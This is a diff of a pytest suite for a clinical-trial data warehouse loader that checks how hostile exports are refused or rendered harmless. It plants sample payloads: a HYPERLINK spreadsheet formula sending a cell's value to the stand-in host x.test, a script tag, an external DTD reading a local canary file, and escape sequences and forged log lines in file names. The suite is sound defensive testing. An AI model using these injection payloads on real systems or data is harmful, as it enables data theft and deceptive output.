@@ -20,12 +20,25 @@ from __future__ import annotations
 
 import os
 import re
+import subprocess
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
-from hostile_home import KEY, Loaded, assert_kept, csv_lines, export, home_fixtures, rtw, run_count
+from hostile_home import (
+    KEY,
+    SOURCES,
+    Loaded,
+    assert_kept,
+    assert_untouched_outside,
+    copy_home,
+    csv_lines,
+    export,
+    home_fixtures,
+    rtw,
+    run_count,
+)
 from lxml import etree
 from warehouse_query import query_rows as query
 
@@ -208,11 +221,16 @@ def older_export_arriving_late(home: Path, loaded: Loaded) -> None:
     (f.parent / "TREP_export_20261001.csv").write_bytes(b"\r\n".join(lines[:5]) + b"\r\n")
 
 
+def unreadable(home: Path, loaded: Loaded) -> None:
+    export(home, "iltb", "ILTB_FU.csv").chmod(0)
+
+
 @dataclass(frozen=True)
 class Refused:
     source: str
     hostile: Callable[[Path, Loaded], None]
     message: str  # a regex the run's output must match
+    without_root_reads: bool = False  # root reads any file whatever its mode: the run is started without that
 
 
 REFUSED = {
@@ -243,51 +261,100 @@ REFUSED = {
     "column dropped": Refused("iltb", column_dropped, r"iltb.*BRTHDAT"),
     "link outside the home": Refused("registry_it", link_outside,
                                      r"registry_it: no export files.*TREP_export_\S+\.csv refused: .*link"),
+    "unreadable export": Refused("iltb", unreadable, r"iltb.*ILTB_FU\.csv.*(Permission denied|cannot be read)",
+                                 without_root_reads=True),
 }
 
+# The cases by night, a few sources' at once (a run of the loaded home costs seconds, its hostile export
+# nothing): each fails or holds its own source, and two sources at least are left untouched to show the
+# others load as before.
+NIGHTS = (
+    ("header only", "ODM of another study", "workbook truncated"),
+    ("cut at a line", "ODM of the wrong shape", "workbook without a sheet"),
+    ("cut mid-line", "ODM truncated", "workbook that is a web page"),
+    ("UTF-8 mark under cp1252", "ODM values in a vendor element", "wrong encoding"),
+    ("UTF-16", "ODM snapshot removing", "column dropped"),
+    ("binary garbage", "billion laughs", "SAS transport truncated"),
+    ("column renamed", "external entity"),
+    ("link outside the home", "unreadable export"),
+)
 
-@pytest.mark.parametrize("case", REFUSED.values(), ids=REFUSED.keys())
-def test_a_hostile_export_fails_or_holds_its_source_alone(case, home, loaded):
-    case.hostile(home, loaded)
-    done = rtw(home)
-    output = done.stdout + done.stderr
-    assert done.returncode == 0, output  # the run did its job for everyone else: the failure is reported
-    assert re.search(case.message, " ".join(output.split())), output
-    assert query(home, "SELECT sources_failed FROM meta.run ORDER BY started_at DESC LIMIT 1") == [([case.source],)]
-    assert query(home, f"SELECT status FROM meta.source WHERE source_id = '{case.source}'")[0][0] in ("held", "failed")
+
+def test_every_hostile_export_is_tried_in_one_night():
+    assert sorted(name for night in NIGHTS for name in night) == sorted(REFUSED)
+    for night in NIGHTS:
+        assert len({REFUSED[name].source for name in night}) == len(night) <= len(SOURCES) - 2, night
+
+
+@pytest.mark.parametrize("night", NIGHTS, ids=" + ".join)
+def test_a_hostile_export_fails_or_holds_its_source_alone(night, home, loaded):
+    cases = {name: REFUSED[name] for name in night}
+    for case in cases.values():
+        case.hostile(home, loaded)
+    done = rtw(home, without_root_reads=os.geteuid() == 0 and any(c.without_root_reads for c in cases.values()))
+    output = " ".join((done.stdout + done.stderr).split())
+    assert done.returncode == 0, output  # the run did its job for everyone else: the failures are reported
+    assert query(home, "SELECT sources_failed FROM meta.run ORDER BY started_at DESC LIMIT 1") == [
+        (sorted(c.source for c in cases.values()),)]
+    said = dict(query(home, "SELECT source_id, message FROM meta.source"))
+    for name, case in cases.items():
+        # The other sources' messages taken out: a match spans no two sources' words.
+        own = output
+        for other in cases.values():
+            if other is not case and said[other.source]:
+                own = own.replace(" ".join(said[other.source].split()), " ")
+        assert re.search(case.message, own), f"{name}: {output}"
+        assert query(home, f"SELECT status FROM meta.source WHERE source_id = '{case.source}'")[0][0] in (
+            "held", "failed"), name
     assert_kept(home, loaded)
 
 
-def being_written(home: Path, loaded: Loaded) -> None:
+def a_night(factory: pytest.TempPathFactory, loaded: Loaded, *changes: Callable[[Path, Loaded], object],
+            env: dict[str, str | None] | None = None) -> tuple[Path, subprocess.CompletedProcess[str]]:
+    """A copy of the loaded home changed by each of `changes` (of sources apart: scenarios of one night, shared by
+    the tests of each), and its run. The canary is checked at once: the next case's copy sets its access time back."""
+    home = copy_home(loaded, factory.mktemp("night"))
+    for change in changes:
+        change(home, loaded)
+    done = rtw(home, env=env)
+    assert_untouched_outside(home, loaded)
+    return home, done
+
+
+def test_a_file_still_being_written_is_set_aside_with_a_notice(home, loaded):
     f = export(home, "registry_it")
     f.write_bytes(f.read_bytes()[:-200])  # with a quiet period of an hour, it changed a moment ago
-
-
-@dataclass(frozen=True)
-class Noticed:
-    source: str
-    hostile: Callable[[Path, Loaded], None]
-    notice: str  # a regex the run's output must match
-    env: tuple[tuple[str, str], ...] = ()
-
-
-NOTICED = {
-    "named pipe": Noticed("registry_it", fifo, r"registry_it: TREP_export_20261201\.csv refused: .*(pipe|regular)"),
-    "file still being written": Noticed("registry_it", being_written,
-                                        r"registry_it: TREP_export_\S+ not read yet: .*quiet period",
-                                        env=(("RTW_QUIET_SECONDS", "3600"),)),
-}
-
-
-@pytest.mark.parametrize("case", NOTICED.values(), ids=NOTICED.keys())
-def test_a_hostile_landing_file_is_set_aside_with_a_notice(case, home, loaded):
-    case.hostile(home, loaded)
-    done = rtw(home, env=dict(case.env))
+    done = rtw(home, env={"RTW_QUIET_SECONDS": "3600"})
     output = " ".join((done.stdout + done.stderr).split())
     assert done.returncode == 0 and "failed sources" not in output, output
-    assert re.search(case.notice, output), output
+    assert re.search(r"registry_it: TREP_export_\S+ not read yet: .*quiet period", output), output
     assert query(home, "SELECT status FROM meta.source WHERE source_id = 'registry_it'") == [("loaded",)]
     assert_kept(home, loaded)
+
+
+def external_dtd(home: Path, loaded: Loaded) -> None:
+    _odm_with_prolog(home, f'<!DOCTYPE ODM SYSTEM "file://{loaded.canary}">')
+
+
+@pytest.fixture(scope="module")
+def pipe_and_dtd_night(tmp_path_factory, loaded):
+    """A named pipe among registry_it's exports, and sacha_fr's export naming an external DTD."""
+    return a_night(tmp_path_factory, loaded, fifo, external_dtd)
+
+
+def test_a_named_pipe_in_landing_is_set_aside_with_a_notice(pipe_and_dtd_night, loaded):
+    home, done = pipe_and_dtd_night
+    output = " ".join((done.stdout + done.stderr).split())
+    assert done.returncode == 0 and "failed sources" not in output, output
+    assert re.search(r"registry_it: TREP_export_20261201\.csv refused: .*(pipe|regular)", output), output
+    assert query(home, "SELECT status FROM meta.source WHERE source_id = 'registry_it'") == [("loaded",)]
+    assert_kept(home, loaded, changed=("sacha_fr",))
+
+
+def test_an_external_dtd_is_never_read(pipe_and_dtd_night, loaded):
+    home, done = pipe_and_dtd_night
+    assert done.returncode == 0 and "failed sources" not in done.stdout, done.stdout
+    assert_kept(home, loaded, changed=("sacha_fr",))  # the same data, from a file of another checksum
 
 
 def test_an_older_export_arriving_late_is_recorded_as_superseded(home, loaded):
@@ -295,24 +362,6 @@ def test_an_older_export_arriving_late_is_recorded_as_superseded(home, loaded):
     assert rtw(home).returncode == 0
     assert query(home, "SELECT status, rows_loaded FROM meta.source_file "
                        "WHERE file_name = 'TREP_export_20261001.csv'") == [("superseded", 0)]
-    assert_kept(home, loaded)
-
-
-def test_an_external_dtd_is_never_read(home, loaded):
-    _odm_with_prolog(home, f'<!DOCTYPE ODM SYSTEM "file://{loaded.canary}">')
-    done = rtw(home)
-    assert done.returncode == 0 and "failed sources" not in done.stdout, done.stdout
-    assert_kept(home, loaded, changed=("sacha_fr",))  # the same data, from a file of another checksum
-
-
-def test_an_unreadable_export_fails_its_source_alone(home, loaded):
-    f = export(home, "iltb", "ILTB_FU.csv")
-    f.chmod(0)
-    done = rtw(home, without_root_reads=os.geteuid() == 0)
-    output = " ".join((done.stdout + done.stderr).split())
-    assert done.returncode == 0, output
-    assert re.search(r"iltb.*ILTB_FU\.csv.*(Permission denied|cannot be read)", output), output
-    assert query(home, "SELECT sources_failed FROM meta.run ORDER BY started_at DESC LIMIT 1") == [(["iltb"],)]
     assert_kept(home, loaded)
 
 
@@ -368,22 +417,52 @@ def test_a_step_s_files_missing_on_the_next_worker_fail_the_source_never_publish
 
 # --- valid exports with hostile content: loaded, and harmless where they are shown ---------------
 
-def test_formula_and_html_in_values_are_loaded_as_text_and_shown_harmlessly(home, loaded):
+FORMULA = '=HYPERLINK("http://x.test/?"&A1,"open")'
+
+
+def formula_and_script_in_values(home: Path, loaded: Loaded) -> None:
     f = export(home, "registry_it")
     lines = csv_lines(f)
     header = lines[0].split(b";")
     fields = lines[1].split(b";")
-    payload = {b"morfologia": b'=HYPERLINK("http://x.test/?"&A1;"open")'.replace(b";", b","),
+    payload = {b"morfologia": FORMULA.encode(),
                b"codice_centro": b"<script>alert(1)</script>"}  # a centre code is shown in the report
     for name, value in payload.items():
         fields[header.index(name)] = value
     lines[1] = b";".join(fields)
     f.write_bytes(b"\r\n".join(lines))
-    done = rtw(home)
+
+
+def item_group_sent_twice(home: Path, loaded: Loaded) -> None:
+    f, tree = _odm(home)
+    group = tree.find(f".//{ODM_NS}ItemGroupData[@ItemGroupOID='IG.DIAG']")
+    copy = etree.fromstring(etree.tostring(group))
+    for item in copy.iter(f"{ODM_NS}ItemData"):
+        item.set("Value", "9999-01-01" if "DTC" in item.get("ItemOID") else "CONFLICTING COPY")
+    group.addnext(copy)
+    tree.write(str(f), xml_declaration=True, encoding="UTF-8")
+
+
+def control_characters_in_landing_names(home: Path, loaded: Loaded) -> None:
+    (home / "landing" / "iltb" / "notes\x1b[2J.txt").write_text("not an export")
+    (home / "landing" / "iltb" / "notes\x1b[2J.txt").chmod(0o600)
+    (home / "landing" / "iltb\nERROR forged").mkdir(mode=0o700)
+
+
+@pytest.fixture(scope="module")
+def content_night(tmp_path_factory, loaded):
+    """A formula and a script in registry_it's values, sacha_fr's item group sent twice, and names with control
+    characters in iltb's landing: one night."""
+    return a_night(tmp_path_factory, loaded, formula_and_script_in_values, item_group_sent_twice,
+                   control_characters_in_landing_names)
+
+
+def test_formula_and_html_in_values_are_loaded_as_text_and_shown_harmlessly(content_night, loaded):
+    home, done = content_night
     assert done.returncode == 0, done.stdout + done.stderr
     values = {v for (v,) in query(home, "SELECT value FROM dq.issue WHERE source_id = 'registry_it' "
                                         "AND run_id = (SELECT max(run_id) FROM dq.issue)")}
-    assert payload[b"morfologia"].decode() in values  # kept as the centre wrote it, to be queried
+    assert FORMULA in values  # kept as the centre wrote it, to be queried
     page = (home / "reports" / "latest" / "index.html").read_text()
     assert "<SCRIPT>ALERT(1)</SCRIPT>" not in page and "&lt;SCRIPT&gt;ALERT(1)&lt;/SCRIPT&gt;" in page
     (centre,) = {c for (c,) in query(home, "SELECT centre_id FROM dq.issue WHERE value LIKE '=HYPERLINK%'")}
@@ -395,13 +474,49 @@ def test_formula_and_html_in_values_are_loaded_as_text_and_shown_harmlessly(home
     cells = [c.value for row in load_workbook(workbook).active.iter_rows() for c in row]
     assert not any(isinstance(v, str) and v.startswith("=") for v in cells)  # no formula reaches a spreadsheet
     assert any(isinstance(v, str) and "HYPERLINK" in v for v in cells)
-    assert_kept(home, loaded, changed=("registry_it",))
+    assert_kept(home, loaded, changed=("registry_it", "sacha_fr"))
 
 
-def test_what_an_export_wrote_reaches_the_terminal_as_text_never_as_markup_or_escape_sequences(home, loaded):
-    """A StudyOID quoted in a failure and SAS labels in a notice: Rich read a `[/red]` in them as markup (a
-    traceback and exit 1 after a run that had published, and `rtw status` failed alike), and the terminal
-    ran their escape sequences. They are printed as text, control characters escaped."""
+def test_an_item_group_sent_twice_in_a_snapshot_is_held_back_as_a_duplicate_not_merged(content_night, loaded):
+    home, done = content_night
+    diagnoses = "SELECT count(*), count(DISTINCT diagnosis_date) FROM core.diagnosis WHERE source_id = 'sacha_fr'"
+    loaded_file = "FROM meta.source_file WHERE source_id = 'sacha_fr' AND status = 'loaded'"
+    assert done.returncode == 0, done.stdout + done.stderr
+    (read, loaded_, held, superseded), = query(
+        home, f"SELECT rows_read, rows_loaded, rows_quarantined, rows_superseded {loaded_file}")
+    # the copy is a record of its own
+    assert read == query(loaded.home, f"SELECT rows_read {loaded_file}")[0][0] + 1 == loaded_ + held + superseded
+    reasons = [r for (rs,) in query(home, "SELECT reasons FROM dq.quarantine WHERE source_id = 'sacha_fr' "
+                                          "AND record_set = 'IG.DIAG'") for r in rs]
+    assert any("duplicate: record key" in r for r in reasons)
+    assert query(home, diagnoses) == query(loaded.home, diagnoses)  # the first sending stands, not the copy's values
+    assert not query(home, "SELECT 1 FROM core.diagnosis WHERE year(diagnosis_date) = 9999")
+
+
+def test_a_landing_name_reaches_the_terminal_as_text_in_the_run_s_notices_and_log(content_night, loaded):
+    """A landing file matching no pattern and a landing folder no mapping reads are named in the run's
+    notices (stdout) and log (stderr) as delivered: an ESC in a name cleared the screen and a line break
+    forged a line, as the notices were printed with only Rich's markup off and the log as it was."""
+    home, done = content_night
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert "notice iltb: notes\\x1b[2J.txt does not match" in done.stdout
+    assert "WARNING iltb\\nERROR forged: landing folder" in done.stderr
+    assert "\x1b" not in done.stdout + done.stderr  # Rich writes no colours to a pipe: any ESC came from a name
+    assert not any(line.startswith("ERROR forged") for line in (done.stdout + done.stderr).splitlines())
+    assert_kept(home, loaded, changed=("registry_it", "sacha_fr"))  # iltb's exports are read as before
+
+
+def impossible_registration_date(home: Path, loaded: Loaded) -> None:
+    f = export(home, "registry_it")
+    lines = csv_lines(f)
+    header = lines[0].split(b";")
+    fields = lines[1].split(b";")
+    fields[header.index(b"data_registrazione")] = b"01/01/2150"
+    lines[1] = b";".join(fields)
+    f.write_bytes(b"\r\n".join(lines))
+
+
+def markup_in_export_text(home: Path, loaded: Loaded) -> None:
     import pyreadstat
 
     f, tree = _odm(home)
@@ -412,68 +527,35 @@ def test_what_an_export_wrote_reaches_the_terminal_as_text_never_as_markup_or_es
     labels = [*meta.column_labels[:-1], "[link=http://x.test/]x[/link]"]
     pyreadstat.write_xport(frame, str(xpt), file_label="\x1b[2J[/red]", column_labels=labels,
                            table_name=meta.table_name, file_format_version=5)
-    done = rtw(home)
+
+
+@pytest.fixture(scope="module")
+def date_and_markup_night(tmp_path_factory, loaded):
+    """An impossible registration date in registry_it's export, markup and escape sequences in sacha_fr's StudyOID
+    and esmart's labels: one night."""
+    return a_night(tmp_path_factory, loaded, impossible_registration_date, markup_in_export_text)
+
+
+def test_what_an_export_wrote_reaches_the_terminal_as_text_never_as_markup_or_escape_sequences(
+        date_and_markup_night, loaded):
+    """A StudyOID quoted in a failure and SAS labels in a notice: Rich read a `[/red]` in them as markup (a
+    traceback and exit 1 after a run that had published, and `rtw status` failed alike), and the terminal
+    ran their escape sequences. They are printed as text, control characters escaped."""
+    home, done = date_and_markup_night
     assert done.returncode == 0, done.stdout + done.stderr
     assert "StudyOID '[/red]\\nERROR forged line'" in done.stdout  # refused, and said so on its line
     status = rtw(home, "status")
     assert status.returncode == 0, status.stdout + status.stderr
     assert "\\x1b[2J[/red]" in status.stdout and "[link=http://x.test/]x[/link]" in status.stdout
     assert "\x1b" not in done.stdout + status.stdout  # Rich writes no colours to a pipe: any ESC came from the export
-    assert_kept(home, loaded, changed=("esmart",))
+    assert_kept(home, loaded, changed=("esmart", "registry_it"))
 
 
-def test_an_impossible_date_is_flagged_and_never_a_year_in_the_marts(home, loaded):
-    f = export(home, "registry_it")
-    lines = csv_lines(f)
-    header = lines[0].split(b";")
-    fields = lines[1].split(b";")
-    fields[header.index(b"data_registrazione")] = b"01/01/2150"
-    lines[1] = b";".join(fields)
-    f.write_bytes(b"\r\n".join(lines))
-    done = rtw(home)
+def test_an_impossible_date_is_flagged_and_never_a_year_in_the_marts(date_and_markup_night, loaded):
+    home, done = date_and_markup_night
     assert done.returncode == 0, done.stdout + done.stderr
     flagged = query(home, "SELECT rule_id FROM dq.issue WHERE source_id = 'registry_it' AND value LIKE '2150%'")
     assert ("XT-DATE-NOT-AFTER-EXPORT",) in flagged
     years = [y for (y,) in query(home, "SELECT DISTINCT registration_year FROM marts.registry_activity")]
     assert years and max(years) <= 2026
-    assert_kept(home, loaded, changed=("registry_it",))
-
-
-def test_an_item_group_sent_twice_in_a_snapshot_is_held_back_as_a_duplicate_not_merged(home, loaded):
-    f, tree = _odm(home)
-    group = tree.find(f".//{ODM_NS}ItemGroupData[@ItemGroupOID='IG.DIAG']")
-    copy = etree.fromstring(etree.tostring(group))
-    for item in copy.iter(f"{ODM_NS}ItemData"):
-        item.set("Value", "9999-01-01" if "DTC" in item.get("ItemOID") else "CONFLICTING COPY")
-    group.addnext(copy)
-    tree.write(str(f), xml_declaration=True, encoding="UTF-8")
-    diagnoses = "SELECT count(*), count(DISTINCT diagnosis_date) FROM core.diagnosis WHERE source_id = 'sacha_fr'"
-    before, read_before = query(home, diagnoses), query(
-        home, "SELECT rows_read FROM meta.source_file WHERE source_id = 'sacha_fr' AND status = 'loaded'")
-    done = rtw(home)
-    assert done.returncode == 0, done.stdout + done.stderr
-    (read, loaded_, held, superseded), = query(
-        home, "SELECT rows_read, rows_loaded, rows_quarantined, rows_superseded FROM meta.source_file "
-              "WHERE source_id = 'sacha_fr' AND status = 'loaded'")
-    assert read == read_before[0][0] + 1 == loaded_ + held + superseded  # the copy is a record of its own
-    reasons = [r for (rs,) in query(home, "SELECT reasons FROM dq.quarantine WHERE source_id = 'sacha_fr' "
-                                          "AND record_set = 'IG.DIAG'") for r in rs]
-    assert any("duplicate: record key" in r for r in reasons)
-    assert query(home, diagnoses) == before  # the first sending stands, not the copy's values
-    assert not query(home, "SELECT 1 FROM core.diagnosis WHERE year(diagnosis_date) = 9999")
-
-
-def test_a_landing_name_reaches_the_terminal_as_text_in_the_run_s_notices_and_log(home, loaded):
-    """A landing file matching no pattern and a landing folder no mapping reads are named in the run's
-    notices (stdout) and log (stderr) as delivered: an ESC in a name cleared the screen and a line break
-    forged a line, as the notices were printed with only Rich's markup off and the log as it was."""
-    (home / "landing" / "iltb" / "notes\x1b[2J.txt").write_text("not an export")
-    (home / "landing" / "iltb" / "notes\x1b[2J.txt").chmod(0o600)
-    (home / "landing" / "iltb\nERROR forged").mkdir(mode=0o700)
-    done = rtw(home)
-    assert done.returncode == 0, done.stdout + done.stderr
-    assert "notice iltb: notes\\x1b[2J.txt does not match" in done.stdout
-    assert "WARNING iltb\\nERROR forged: landing folder" in done.stderr
-    assert "\x1b" not in done.stdout + done.stderr  # Rich writes no colours to a pipe: any ESC came from a name
-    assert not any(line.startswith("ERROR forged") for line in (done.stdout + done.stderr).splitlines())
-    assert_kept(home, loaded, changed=())
+    assert_kept(home, loaded, changed=("esmart", "registry_it"))
